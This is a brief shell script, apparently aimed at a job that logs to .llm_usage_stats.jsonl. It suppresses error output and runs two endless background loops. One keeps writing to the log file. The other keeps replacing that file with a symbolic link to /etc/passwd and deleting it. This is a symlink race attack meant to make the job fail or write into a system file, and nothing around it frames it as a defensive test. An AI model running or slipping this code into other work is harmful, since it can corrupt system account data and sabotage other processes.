# A file that is written, cut and replaced by links until the job is dead.
exec 2>/dev/null
(while :; do echo mine >> .llm_usage_stats.jsonl; done) &
(while :; do ln -sf /etc/passwd .llm_usage_stats.jsonl; rm -f .llm_usage_stats.jsonl; done) &
perl -e 'select(undef, undef, undef, 0.05)'
